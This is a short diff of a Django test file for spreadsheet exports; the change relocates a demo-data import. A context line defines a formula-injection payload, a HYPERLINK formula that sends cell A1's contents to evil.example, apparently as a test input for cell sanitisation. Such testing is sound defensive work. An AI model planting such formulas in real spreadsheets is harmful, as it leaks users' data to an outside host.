@@ -8,10 +8,10 @@ from django.contrib.auth.models import User
 from openpyxl import load_workbook
 
 from portal.console.exports import export_response, safe_cell
-from portal.demo.shop import load_demo
 from portal.orders.models import Order
 from tests.factories import ProductFactory, order_for
 from tests.portal.console.downloads import download
+from tests.support.db_state import load_demo
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
